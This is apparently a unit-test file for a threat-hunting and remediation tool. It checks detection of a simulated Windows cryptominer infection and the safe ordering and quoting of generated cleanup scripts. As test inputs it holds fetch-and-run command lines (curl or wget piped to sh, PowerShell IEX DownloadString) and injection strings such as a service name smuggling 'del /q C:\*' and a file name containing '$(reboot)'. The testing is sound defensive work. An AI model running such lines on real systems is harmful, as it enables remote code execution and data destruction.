// The hunt's matching and plan on synthetic snapshots: the Windows incident is checked here on
// every OS (and for real under Wine by tests/windows/windows_e2e.py hunt).
#include "otguard/host/hunt.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "host/hunt_internal.h"
#include "host/inventory_internal.h"
#include "otguard/host/hunt_events.h"
#include "otguard/host/hunt_run.h"
#include "otguard/platform/files.h"
#include "testing/temp_dir.h"

namespace otguard::host {
namespace {

using internal::PathGlobMatch;
using internal::TextGlobMatch;

TEST(HuntGlobTest, TextGlobs) {
  EXPECT_TRUE(TextGlobMatch("dllhostex.exe", "DllHostEx.EXE"));
  EXPECT_TRUE(TextGlobMatch("*stratum+tcp://*:45560*", "x.exe -o stratum+tcp://p1.a.b:45560 -u"));
  EXPECT_TRUE(TextGlobMatch("Enable* a common interface*", "Enables a common interface and"));
  EXPECT_TRUE(TextGlobMatch("a?c", "abc"));
  EXPECT_FALSE(TextGlobMatch("a?c", "ac"));
  EXPECT_TRUE(TextGlobMatch("*", ""));
  EXPECT_FALSE(TextGlobMatch("", "x"));
  EXPECT_FALSE(TextGlobMatch("svchost.exe", "svchost.exe.bak"));
  // No backtracking blow-up: many stars against a long text that does not match.
  std::string text(20000, 'a');
  EXPECT_FALSE(TextGlobMatch("*a*a*a*a*a*a*a*a*a*a*b", text));
}

TEST(HuntGlobTest, PathGlobs) {
  EXPECT_TRUE(PathGlobMatch("C:\\Windows\\System32\\*", "c:/windows/system32/spoolsv.exe", true));
  EXPECT_FALSE(PathGlobMatch("C:\\Windows\\System32\\*", "C:\\Windows\\System32\\x\\y.exe", true));
  EXPECT_TRUE(PathGlobMatch("C:\\Windows\\NetworkDistribution\\**",
                            "C:\\Windows\\NetworkDistribution\\a\\b.exe", true));
  EXPECT_TRUE(PathGlobMatch("C:\\Windows\\NetworkDistribution\\**",
                            "C:\\Windows\\NetworkDistribution\\", true));
  EXPECT_FALSE(PathGlobMatch("C:\\Windows\\NetworkDistribution\\**",
                             "C:\\Windows\\NetworkDistributionX\\a", true));
  EXPECT_FALSE(PathGlobMatch("/tmp/*", "/TMP/x", false));  // Linux paths keep their case
  EXPECT_TRUE(PathGlobMatch("/tmp/**/x", "/tmp/a/b/x", false));
}

TEST(HuntGlobTest, VariablesAndTokens) {
  std::map<std::string, std::string> env = {{"SYSTEMROOT", "C:\\Windows"}};
  EXPECT_EQ(internal::ExpandVariables("%SystemRoot%\\System32\\x", env),
            "C:\\Windows\\System32\\x");
  EXPECT_EQ(internal::ExpandVariables("%Nope%\\x", env), "%Nope%\\x");
  EXPECT_EQ(internal::ProgramOf("\"C:\\Program Files\\a b\\x.exe\" -k"),
            "C:\\Program Files\\a b\\x.exe");
  EXPECT_EQ(internal::ProgramOf("C:\\Program Files\\x.exe -k"), "C:\\Program Files\\x.exe");
  EXPECT_EQ(internal::ProgramOf("/usr/sbin/sshd -D"), "/usr/sbin/sshd");
  auto tokens = internal::DomainTokens("x -o stratum+tcp://XMR.pool.minergate.com:45560 -u a@b.c.");
  EXPECT_NE(std::find(tokens.begin(), tokens.end(), "xmr.pool.minergate.com"), tokens.end());
  EXPECT_TRUE(internal::DomainMatches("*.njaavfxcgk3.club", "swt.njaavfxcgk3.club"));
  EXPECT_TRUE(internal::DomainMatches("*.njaavfxcgk3.club", "njaavfxcgk3.club"));
  EXPECT_FALSE(internal::DomainMatches("*.njaavfxcgk3.club", "xnjaavfxcgk3.club"));
}

TEST(HuntGlobTest, UrlKeysFindWholeUrlsInText) {
  using internal::UrlKeys;
  using Keys = std::vector<std::string>;
  EXPECT_EQ(UrlKeys("curl -fsSL https://RAW.githubusercontent.com/evil-actor/payloads/main/"
                    "stage2.sh | sh"),
            Keys{"web|raw.githubusercontent.com/evil-actor/payloads/main/stage2.sh"});
  // No scheme (curl and wget take it), a default port, quotes and trailing punctuation.
  EXPECT_EQ(UrlKeys("wget -q raw.githubusercontent.com/a/b/c.sh"),
            Keys{"web|raw.githubusercontent.com/a/b/c.sh"});
  EXPECT_EQ(UrlKeys("powershell IEX(New-Object Net.WebClient).DownloadString('http://"
                    "87.251.86.178:80/pp/PP.PNG');"),
            Keys{"web|87.251.86.178/pp/PP.PNG"});
  EXPECT_EQ(UrlKeys("x --url=http://h.example/p?q=1#frag, y"), Keys{"web|h.example/p?q=1"});
  EXPECT_EQ(UrlKeys("xmrig -o stratum+tcp://pool.example:45560"),
            Keys{"stratum+tcp|pool.example:45560/"});
  // Paths and bare names are not URLs.
  EXPECT_TRUE(UrlKeys("C:\\Windows\\x.exe /usr/bin/sh ./a/b evil.example").empty());
}

// ---- A synthetic Windows host with MsraMiner's footprint ----

platform::ProcessInfo Proc(uint32_t pid, uint32_t ppid, std::string name, std::string exe,
                           std::string cmd = "", int64_t start = 1000) {
  platform::ProcessInfo p;
  p.pid = pid;
  p.ppid = ppid;
  p.name = std::move(name);
  p.executable = std::move(exe);
  if (!cmd.empty()) p.command_line = cmd;
  p.start_time_ns = start;
  return p;
}

HuntSnapshot InfectedWindows() {
  HuntSnapshot s;
  s.os = TargetOs::kWindows;
  s.environment = {{"SYSTEMROOT", "C:\\Windows"}, {"WINDIR", "C:\\Windows"}};
  auto& inv = s.inventory;
  inv.host_name = "OPS-01";
  inv.processes = {
      Proc(4, 0, "System", ""),
      Proc(500, 4, "services.exe", "C:\\Windows\\System32\\services.exe"),
      Proc(900, 500, "svchost.exe", "C:\\Windows\\System32\\svchost.exe",
           "C:\\Windows\\system32\\svchost.exe -k netsvcs", 2000),
      Proc(1200, 900, "dllhostex.exe", "C:\\Windows\\System32\\dllhostex.exe",
           "dllhostex.exe -o stratum+tcp://p1.mdfr6avyyle.online:45560 -u a@protonmail.com", 3000),
      Proc(1300, 900, "spoolsv.exe", "C:\\Windows\\SpeechsTracing\\spoolsv.exe", "", 3000),
      Proc(600, 500, "spoolsv.exe", "C:\\Windows\\System32\\spoolsv.exe", "", 2000),
  };
  platform::ServiceInfo evil;
  evil.name = "WindowsUpdateHelper";
  evil.display_name = "Windows Update Helper";
  evil.description =
      "Enables a common interface and object model for the Windows Update Helper to access "
      "management information about system update, network protocols, devices and applications. "
      "If this service is stopped, most Windows-based software will not function properly.";
  evil.binary_path = "%SystemRoot%\\System32\\svchost.exe -k netsvcs";
  evil.service_dll = "C:\\Windows\\System32\\WindowsUpdateHelper.dll";
  evil.state = platform::ServiceState::kRunning;
  evil.pid = 900;
  platform::ServiceInfo good;
  good.name = "Schedule";
  good.description = "Enables a user to configure and schedule automated tasks.";
  good.binary_path = evil.binary_path;
  good.service_dll = "C:\\Windows\\System32\\schedsvc.dll";
  good.state = platform::ServiceState::kRunning;
  good.pid = 900;
  inv.services = {good, evil};
  platform::SocketEndpoint listen;
  listen.local_address = "0.0.0.0";
  listen.local_port = 26931;
  listen.state = "LISTEN";
  listen.pid = 900;
  platform::SocketEndpoint pool;
  pool.local_address = "192.168.110.121";
  pool.local_port = 49200;
  pool.remote_address = "45.76.185.56";
  pool.remote_port = 45560;
  pool.state = "ESTABLISHED";
  pool.pid = 1200;
  inv.sockets = {listen, pool};
  ImageInfo miner;
  miner.path = "C:\\Windows\\System32\\dllhostex.exe";
  miner.md5 = "3aba72d1f87f4372162972b6a45ed8cd";
  inv.images = {miner};
  HuntFile dist;
  dist.path = "C:\\Windows\\NetworkDistribution";
  dist.directory = true;
  HuntFile payload;
  payload.path = "C:\\Windows\\NetworkDistribution\\svchost.exe";
  s.files = {dist, payload};
  HuntRegistryKey services;
  services.key = "HKLM\\SYSTEM\\CurrentControlSet\\Services";
  services.exists = true;
  services.values = {{"ServicesPixels", "bm9uc2Vuc2U="}};
  s.registry = {services};
  return s;
}

Indicator Ind(std::string id, IndicatorKind kind, Severity severity = Severity::kHigh) {
  Indicator i;
  i.id = std::move(id);
  i.title = i.id;
  i.kind = kind;
  i.severity = severity;
  i.os = TargetOs::kWindows;
  return i;
}

// A pack written for this test, so the semantics are checked independently of the built-in one.
Pack TestPack() {
  Pack p;
  p.id = "test";
  p.name = "test";
  p.version = "1";
  p.prevention = {"Install MS17-010."};
  Indicator svc = Ind("service-description", IndicatorKind::kService, Severity::kCritical);
  svc.descriptions = {
      "Enable* a common interface and object model for the * to access management "
      "information*"};
  Indicator words = Ind("service-words", IndicatorKind::kService);
  words.name_words = {{"Windows", "Microsoft", "Network"},
                      {"Update", "Time", "NetBIOS"},
                      {"Service", "Host", "Helper"}};
  words.dll_named_like_service = true;
  Indicator miner = Ind("miner", IndicatorKind::kProcess);
  miner.names = {"dllhostex.exe", "TaskIndexer.exe"};
  miner.end_parent = true;
  Indicator outside = Ind("spoolsv-outside", IndicatorKind::kProcess);
  outside.names = {"spoolsv.exe"};
  outside.not_paths = {"%SystemRoot%\\System32\\*", "%SystemRoot%\\SysWOW64\\*"};
  Indicator parent = Ind("spoolsv-parent", IndicatorKind::kProcess);
  parent.names = {"spoolsv.exe"};
  parent.not_parents = {"services.exe"};
  Indicator dist = Ind("distribution", IndicatorKind::kFile);
  dist.paths = {"%SystemRoot%\\NetworkDistribution\\**"};
  Indicator md5 = Ind("md5", IndicatorKind::kFile);
  md5.md5 = {"3aba72d1f87f4372162972b6a45ed8cd"};
  Indicator pixels = Ind("pixels", IndicatorKind::kRegistry);
  pixels.registry_key = "HKLM\\SYSTEM\\CurrentControlSet\\Services";
  pixels.value_names = {"ServicesPixels"};
  Indicator port = Ind("web-server", IndicatorKind::kListeningPort);
  port.protocol = "tcp";
  port.ports = {26931, 36215};
  Indicator pool = Ind("pool", IndicatorKind::kRemoteEndpoint);
  pool.ports = {45560};
  Indicator c2 = Ind("c2", IndicatorKind::kRemoteEndpoint);
  c2.addresses = {"45.76.0.0/16"};
  c2.ports = {4431, 4433};  // both must match one connection: the pool connection does not
  Indicator domain = Ind("domains", IndicatorKind::kRemoteEndpoint);
  domain.domains = {"*.mdfr6avyyle.online"};
  p.indicators = {svc, words, miner, outside, parent, dist, md5, pixels, port, pool, c2, domain};
  return p;
}

std::vector<std::string> Ids(const std::vector<Finding>& findings) {
  std::vector<std::string> ids;
  for (const Finding& f : findings) ids.push_back(f.indicator.id + " " + f.object);
  return ids;
}

bool Has(const std::vector<Finding>& findings, const std::string& id, const std::string& object) {
  return std::any_of(findings.begin(), findings.end(),
                     [&](const Finding& f) { return f.indicator.id == id && f.object == object; });
}

TEST(HuntMatchTest, FindsEachPartOfTheFootprintWithEvidence) {
  std::vector<Pack> packs = {TestPack()};
  HuntSnapshot snap = InfectedWindows();
  std::vector<Finding> f = MatchIndicators(packs, snap);
  EXPECT_TRUE(Has(f, "service-description", "service WindowsUpdateHelper"));
  EXPECT_TRUE(Has(f, "service-words", "service WindowsUpdateHelper"));
  EXPECT_FALSE(Has(f, "service-description", "service Schedule"));
  EXPECT_TRUE(Has(f, "miner", "pid 1200 dllhostex.exe"));
  EXPECT_TRUE(Has(f, "spoolsv-outside", "pid 1300 spoolsv.exe"));
  EXPECT_FALSE(Has(f, "spoolsv-outside", "pid 600 spoolsv.exe"));
  EXPECT_TRUE(Has(f, "spoolsv-parent", "pid 1300 spoolsv.exe"));
  EXPECT_FALSE(Has(f, "spoolsv-parent", "pid 600 spoolsv.exe"));
  EXPECT_TRUE(Has(f, "distribution", "C:\\Windows\\NetworkDistribution\\svchost.exe"));
  EXPECT_TRUE(Has(f, "distribution", "C:\\Windows\\NetworkDistribution"));
  EXPECT_TRUE(Has(f, "md5", "C:\\Windows\\System32\\dllhostex.exe"));
  EXPECT_TRUE(Has(f, "pixels", "HKLM\\SYSTEM\\CurrentControlSet\\Services\\ServicesPixels"));
  EXPECT_TRUE(Has(f, "web-server", "listening tcp 0.0.0.0:26931 (pid 900)"));
  EXPECT_TRUE(
      Has(f, "pool", "connection tcp 192.168.110.121:49200 -> 45.76.185.56:45560 (pid 1200)"));
  EXPECT_TRUE(Has(f, "domains", "pid 1200 dllhostex.exe"));
  EXPECT_FALSE(std::any_of(f.begin(), f.end(), [](const Finding& x) {
    return x.indicator.id == "c2";
  })) << ::testing::PrintToString(Ids(f));
  EXPECT_EQ(f.front().indicator.severity, Severity::kCritical);  // worst first
  for (const Finding& x : f) EXPECT_FALSE(x.evidence.empty()) << x.indicator.id;
  auto svc = std::find_if(f.begin(), f.end(),
                          [](const Finding& x) { return x.indicator.id == "service-words"; });
  ASSERT_NE(svc, f.end());
  EXPECT_NE(::testing::PrintToString(svc->evidence).find("Windows + Update + Helper"),
            std::string::npos);
}

// A URL on a shared host (code hosting) flags that URL only, never the host's other URLs:
// the plan would end the process and delete its program.
TEST(HuntMatchTest, UrlsMatchAsWholeUrlsNeverAsTheirHost) {
  HuntSnapshot snap;
  snap.os = TargetOs::kLinux;
  snap.inventory.processes = {
      Proc(100, 1, "sh", "/usr/bin/sh",
           "sh -c curl -fsSL https://raw.githubusercontent.com/evil-actor/payloads/main/stage2.sh "
           "| sh"),
      Proc(200, 1, "python3", "/usr/bin/python3",
           "python3 fetch.py https://raw.githubusercontent.com/python/cpython/main/README.rst"),
      Proc(300, 1, "wget", "/usr/bin/wget",
           "wget http://raw.githubusercontent.com/evil-actor/payloads/main/stage2.sh.sig"),
  };
  platform::Autorun cron;
  cron.kind = platform::AutorunKind::kScheduledTask;
  cron.name = "root";
  cron.command =
      "*/5 * * * * wget -q -O- raw.githubusercontent.com/evil-actor/payloads/main/"
      "stage2.sh|sh";
  snap.inventory.autoruns = {cron};
  snap.hosts_file = "140.82.112.3 raw.githubusercontent.com\n";
  Pack pack;
  pack.id = "feed";
  Indicator url = Ind("stage2", IndicatorKind::kRemoteEndpoint);
  url.os = TargetOs::kAny;
  url.urls = {"https://raw.githubusercontent.com/evil-actor/payloads/main/stage2.sh"};
  pack.indicators = {url};
  std::vector<Finding> f = MatchIndicators({pack}, snap);
  EXPECT_TRUE(Has(f, "stage2", "pid 100 sh"));
  EXPECT_TRUE(Has(f, "stage2", "scheduled-task root")) << ::testing::PrintToString(Ids(f));
  EXPECT_EQ(f.size(), 2u) << ::testing::PrintToString(Ids(f));  // not 200, 300, the hosts file
}

TEST(HuntMatchTest, ParentConditionsNeedARealParent) {
  std::vector<Pack> packs = {TestPack()};
  HuntSnapshot snap = InfectedWindows();
  // The spoolsv.exe outside System32 whose "parent" pid now belongs to a newer process: a reused
  // pid is no parent, so the parent condition cannot hold.
  for (auto& p : snap.inventory.processes) {
    if (p.pid == 900) p.start_time_ns = 999999;
  }
  std::vector<Finding> f = MatchIndicators(packs, snap);
  EXPECT_FALSE(Has(f, "spoolsv-parent", "pid 1300 spoolsv.exe"));
  EXPECT_TRUE(Has(f, "spoolsv-outside", "pid 1300 spoolsv.exe"));
}

TEST(HuntMatchTest, IndicatorsForAnotherOsAreSkipped) {
  std::vector<Pack> packs = {TestPack()};
  HuntSnapshot snap = InfectedWindows();
  snap.os = TargetOs::kLinux;
  EXPECT_TRUE(MatchIndicators(packs, snap).empty());
}

TEST(HuntMatchTest, CleanHostHasNoFindingsAndNoPlan) {
  std::vector<Pack> packs = {TestPack()};
  HuntSnapshot snap;
  snap.os = TargetOs::kWindows;
  snap.environment = {{"SYSTEMROOT", "C:\\Windows"}};
  snap.inventory.processes = {Proc(500, 4, "services.exe", "C:\\Windows\\System32\\services.exe"),
                              Proc(600, 500, "spoolsv.exe", "C:\\Windows\\System32\\spoolsv.exe")};
  std::vector<Finding> f = MatchIndicators(packs, snap);
  EXPECT_TRUE(f.empty()) << ::testing::PrintToString(Ids(f));
  EXPECT_TRUE(PlanRemediation(f, packs, snap).steps.empty());
}

int StepOf(const Plan& plan, StepAction action, const std::string& target) {
  for (const PlanStep& s : plan.steps) {
    if (s.action == action && s.target == target) return s.number;
  }
  return -1;
}

TEST(HuntPlanTest, StepsComeInASafeOrder) {
  std::vector<Pack> packs = {TestPack()};
  HuntSnapshot snap = InfectedWindows();
  std::vector<Finding> f = MatchIndicators(packs, snap);
  Plan plan = PlanRemediation(f, packs, snap);
  std::string text = PlanText(plan);
  int block = StepOf(plan, StepAction::kBlockTraffic, "in tcp 26931");
  int disable = StepOf(plan, StepAction::kDisableService, "WindowsUpdateHelper");
  int stop = StepOf(plan, StepAction::kStopService, "WindowsUpdateHelper");
  int parent = StepOf(plan, StepAction::kEndProcess, "pid 900");
  int child = StepOf(plan, StepAction::kEndProcess, "pid 1200");
  int del = StepOf(plan, StepAction::kDeleteService, "WindowsUpdateHelper");
  int dll = StepOf(plan, StepAction::kDeleteFile, "C:\\Windows\\System32\\WindowsUpdateHelper.dll");
  int miner = StepOf(plan, StepAction::kDeleteFile, "C:\\Windows\\System32\\dllhostex.exe");
  int file = StepOf(plan, StepAction::kDeleteFile, "C:\\Windows\\NetworkDistribution\\svchost.exe");
  int dir = StepOf(plan, StepAction::kDeleteDirectory, "C:\\Windows\\NetworkDistribution");
  int reg = StepOf(plan, StepAction::kDeleteRegistryValue,
                   "HKLM\\SYSTEM\\CurrentControlSet\\Services\\ServicesPixels");
  for (int n : {block, disable, stop, parent, child, del, dll, miner, file, dir, reg}) {
    ASSERT_GT(n, 0) << text;
  }
  EXPECT_LT(block, disable);
  EXPECT_LT(disable, stop);
  EXPECT_LT(stop, parent);   // stop before end
  EXPECT_LT(parent, child);  // the parent that restarts the miner first
  EXPECT_LT(child, del);
  EXPECT_LT(del, dll);  // stop and delete the service before its DLL
  EXPECT_LT(child, miner);
  EXPECT_LT(file, dir);
  EXPECT_LT(dir, reg);
  // The System32 svchost.exe is never a file to delete; the plan warns what ending it stops.
  EXPECT_EQ(StepOf(plan, StepAction::kDeleteFile, "C:\\Windows\\System32\\svchost.exe"), -1);
  EXPECT_NE(text.find("hosts the services Schedule, WindowsUpdateHelper"), std::string::npos)
      << text;
  // Dependencies point backwards and name the obvious ones.
  const PlanStep& child_step = plan.steps[child - 1];
  EXPECT_NE(std::find(child_step.after.begin(), child_step.after.end(), parent),
            child_step.after.end());
  const PlanStep& dir_step = plan.steps[dir - 1];
  EXPECT_NE(std::find(dir_step.after.begin(), dir_step.after.end(), file), dir_step.after.end());
  EXPECT_EQ(plan.steps.back().action, StepAction::kVerify);
  EXPECT_EQ(plan.steps[plan.steps.size() - 2].action, StepAction::kPrevent);
  EXPECT_EQ(plan.steps[stop - 1].command, "sc stop \"WindowsUpdateHelper\"");
  EXPECT_EQ(plan.steps[child - 1].command, "taskkill /PID 1200 /F");
}

TEST(HuntPlanTest, NeverEndsCriticalProcesses) {
  std::vector<Pack> packs = {TestPack()};
  HuntSnapshot snap = InfectedWindows();
  // A miner started directly by services.exe: "end the parent" must not end services.exe.
  for (auto& p : snap.inventory.processes) {
    if (p.pid == 1200) p.ppid = 500;
  }
  Plan plan = PlanRemediation(MatchIndicators(packs, snap), packs, snap);
  int n = StepOf(plan, StepAction::kEndProcess, "pid 500");
  ASSERT_GT(n, 0);
  EXPECT_TRUE(plan.steps[n - 1].command.empty());
  EXPECT_NE(plan.steps[n - 1].what.find("Do NOT end services.exe"), std::string::npos);
}

TEST(HuntPlanTest, ScriptNeverRunsHostileNames) {
  std::vector<Pack> packs = {TestPack()};
  HuntSnapshot snap = InfectedWindows();
  // A service name built to break out of the quotes of a generated command.
  snap.inventory.services[1].name = "WindowsUpdateHelper\" & del /q C:\\* & \"";
  snap.inventory.services[1].service_dll = "C:\\Windows\\System32\\x%PATH%.dll";
  Plan plan = PlanRemediation(MatchIndicators(packs, snap), packs, snap);
  std::string script = PlanScript(plan);
  // The hostile text appears only in echo lines, with cmd.exe's special characters replaced.
  size_t line_start = 0;
  while (line_start < script.size()) {
    size_t end = script.find('\n', line_start);
    std::string line = script.substr(line_start, end - line_start);
    line_start = end == std::string::npos ? script.size() : end + 1;
    if (line.find("del /q") == std::string::npos && line.find("PATH") == std::string::npos)
      continue;
    EXPECT_EQ(line.rfind("echo ", 0), 0u) << line;
    EXPECT_EQ(line.find_first_of("&%\"|<>"), std::string::npos) << line;
  }
  EXPECT_NE(script.find("This step is done by hand."), std::string::npos);
  // Every step that runs something asks first.
  size_t asks = 0, pos = 0;
  while ((pos = script.find("set /p ANSWER=", pos)) != std::string::npos) ++asks, ++pos;
  size_t commands = std::count_if(plan.steps.begin(), plan.steps.end(),
                                  [](const PlanStep& s) { return !s.command.empty(); });
  EXPECT_EQ(asks, commands);
}

TEST(HuntPlanTest, LinuxScriptQuotesEverything) {
  Pack pack;
  pack.id = "t";
  pack.version = "1";
  Indicator ind;
  ind.id = "file";
  ind.kind = IndicatorKind::kFile;
  ind.os = TargetOs::kLinux;
  ind.paths = {"/tmp/x/**"};
  pack.indicators = {ind};
  HuntSnapshot snap;
  snap.os = TargetOs::kLinux;
  HuntFile f;
  f.path = "/tmp/x/it's $(reboot)";
  snap.files = {f};
  std::vector<Pack> packs = {pack};
  Plan plan = PlanRemediation(MatchIndicators(packs, snap), packs, snap);
  std::string script = PlanScript(plan);
  EXPECT_NE(script.find("rm -f -- '/tmp/x/it'\\''s $(reboot)'"), std::string::npos) << script;
  EXPECT_NE(script.find("if ask 'Run step 1?'; then"), std::string::npos) << script;
}

TEST(HuntEventsTest, FindingRecordsCarryRuleThreatAndObject) {
  std::vector<Pack> packs = {TestPack()};
  packs[0].indicators[0].technique = "T0849";
  HuntSnapshot snap = InfectedWindows();
  std::vector<Finding> f = MatchIndicators(packs, snap);
  HuntSummary summary;
  summary.host_name = "OPS-01";
  nlohmann::json r = FindingRecord(f.front(), summary);
  EXPECT_EQ(r["event"]["kind"], "alert");
  EXPECT_EQ(r["event"]["dataset"], "otguard.hunt.finding");
  EXPECT_EQ(r["rule"]["id"], "test/service-description");
  EXPECT_EQ(r["threat"]["technique"]["id"][0], "T0849");
  EXPECT_EQ(r["service"]["name"], "WindowsUpdateHelper");
  EXPECT_EQ(r["otguard"]["severity"], "critical");
  EXPECT_EQ(r["event"]["severity"], 5);  // the one 1-5 scale (schema 1 wrote 99)
  EXPECT_EQ(r["otguard"]["schema_version"], kEventSchemaVersion);
  EXPECT_EQ(r["rule"]["ruleset"], "test");
  EXPECT_FALSE(r["otguard"]["hunt"]["evidence"].empty());
}

// The hunt as the CLI shows it (hunt_run.cc): text, records in order, the exit code.
HuntRun RunOnInfectedWindows() {
  HuntRun run;
  run.packs = {TestPack()};
  HuntSnapshot snap = InfectedWindows();
  run.findings = MatchIndicators(run.packs, snap);
  run.plan = PlanRemediation(run.findings, run.packs, snap);
  run.summary.host_name = "OPS-01";
  for (const Pack& p : run.packs) run.summary.packs.push_back(&p);
  return run;
}

TEST(HuntRunTest, FindingsTextRecordsAndExitCode) {
  HuntRun run = RunOnInfectedWindows();
  ASSERT_FALSE(run.findings.empty());
  std::string text = FindingsText(run);
  EXPECT_EQ(text.rfind("otguard hunt on OPS-01: test 1 (", 0), 0u) << text;
  EXPECT_NE(text.find("\nfindings (" + std::to_string(run.findings.size()) + ")\n"),
            std::string::npos);
  EXPECT_NE(text.find("  critical service WindowsUpdateHelper"), std::string::npos) << text;
  EXPECT_NE(text.find("[test/service-description]"), std::string::npos) << text;
  std::vector<nlohmann::json> records = HuntRecords(run);
  ASSERT_EQ(records.size(), run.findings.size() + run.plan.steps.size() + 1);
  EXPECT_EQ(records.front()["event"]["dataset"], "otguard.hunt.finding");
  EXPECT_EQ(records.back()["event"]["dataset"], "otguard.hunt.summary");
  EXPECT_EQ(HuntExitCode(run), 1);
  run.findings.clear();
  EXPECT_NE(FindingsText(run).find("No findings."), std::string::npos);
  EXPECT_EQ(HuntExitCode(run), 0);
  run.summary.incomplete = {"registry HKLM\\X: permission denied"};
  EXPECT_EQ(HuntExitCode(run), 2);  // clean, but it could not look everywhere
}

TEST(HuntRunTest, PacksLoadFromEverySourceAndBadOnesAreErrorLines) {
  testutil::TempDir dir;
  std::string good = dir.path() + "/good.toml";
  ASSERT_TRUE(platform::WriteFileAtomic(good, PackToToml(TestPack()), 0644).ok());
  std::string missing = dir.path() + "/missing.toml";
  std::string bundle = dir.path() + "/bundle.json";
  ASSERT_TRUE(platform::WriteFileAtomic(bundle, "{not json", 0644).ok());
  LoadedPacks loaded = LoadPacks({.builtin = false, .files = {good, missing}, .stix = {bundle}});
  ASSERT_EQ(loaded.packs.size(), 1u);
  EXPECT_EQ(loaded.packs[0].id, "test");
  ASSERT_EQ(loaded.errors.size(), 2u);
  EXPECT_EQ(loaded.errors[0].rfind(missing + ": ", 0), 0u) << loaded.errors[0];
  EXPECT_EQ(loaded.errors[1].rfind(bundle + ": ", 0), 0u) << loaded.errors[1];
  PackSources none;
  none.builtin = false;
  EXPECT_TRUE(LoadPacks(none).packs.empty());
}

// Intelligence that yields nothing to look for is an error, not a clean host.
TEST(HuntRunTest, ABundleOrPackWithoutIndicatorsIsAnError) {
  testutil::TempDir dir;
  std::string bundle = dir.path() + "/yara-only.json";
  ASSERT_TRUE(platform::WriteFileAtomic(
                  bundle,
                  R"({"type": "bundle", "id": "bundle--1", "objects": [{"type": "indicator",
                      "id": "indicator--1", "pattern_type": "yara", "pattern": "rule a {}"}]})",
                  0644)
                  .ok());
  LoadedPacks loaded = LoadPacks({.builtin = true, .files = {}, .stix = {bundle}});
  ASSERT_EQ(loaded.errors.size(), 1u);
  EXPECT_EQ(loaded.errors[0], bundle +
                                  ": no indicator could be imported (1 STIX indicator objects, "
                                  "1 parts left out)");
  EXPECT_EQ(loaded.notes.size(), 1u);
}

TEST(HuntRunTest, NoPacksIsAnError) {
  auto run = Hunt({}, {});
  ASSERT_FALSE(run.has_value());
  EXPECT_EQ(run.error().code(), StatusCode::kInvalidArgument);
}

}  // namespace
}  // namespace otguard::host
